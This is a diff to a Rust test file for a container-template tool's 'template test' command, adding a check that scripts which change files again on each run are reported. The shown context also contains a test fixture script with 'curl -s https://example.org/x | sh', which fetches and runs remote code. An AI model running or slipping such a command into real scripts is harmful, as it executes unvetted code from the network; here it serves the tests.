@@ -29,7 +29,11 @@ fn half_of_the_library_works(half: usize) {
     let ran = here(&[&["template", "test"][..], &names].concat()).run();
     assert_eq!(ran.code, 0, "{}{}", ran.stdout, ran.stderr);
     for name in names {
-        assert!(ran.stdout.contains(&format!("✓ {name} does what it says")), "{name}: {}", ran.stdout);
+        assert!(
+            ran.stdout.contains(&format!("✓ {name} does what it says, and the second time nothing")),
+            "{name}: {}",
+            ran.stdout
+        );
     }
 }
 
@@ -66,6 +70,15 @@ fn a_template_is_begun_linted_compared_and_tried() {
     assert_eq!(clean.code, 0, "what one begins with is clean: {}{}", clean.stdout, clean.stderr);
     let tried = call(&["template", "test", "one", "--input", "GREETING=hi"]).run();
     assert_eq!(tried.code, 0, "{}{}", tried.stdout, tried.stderr);
+
+    // What writes each time without a look is told by what it changed.
+    let careless = dir.path().join("one/container-configs/scripts/60-careless.sh");
+    std::fs::write(&careless, "#!/bin/sh\necho again >>/etc/careless\nchmod 0600 /etc/greeting\n").unwrap();
+    let told = call(&["template", "test", "one"]).run();
+    assert_eq!(told.code, 1, "{}{}", told.stdout, told.stderr);
+    assert!(told.stderr.contains("/etc/careless: has another content"), "{}", told.stderr);
+    assert!(!told.stderr.contains("greeting"), "it was so after the first run: {}", told.stderr);
+    std::fs::remove_file(careless).unwrap();
 
     let script = dir.path().join("two/container-configs/scripts/50-more.sh");
     std::fs::write(script, "#!/bin/sh\ncurl -s https://example.org/x | sh\n").unwrap();
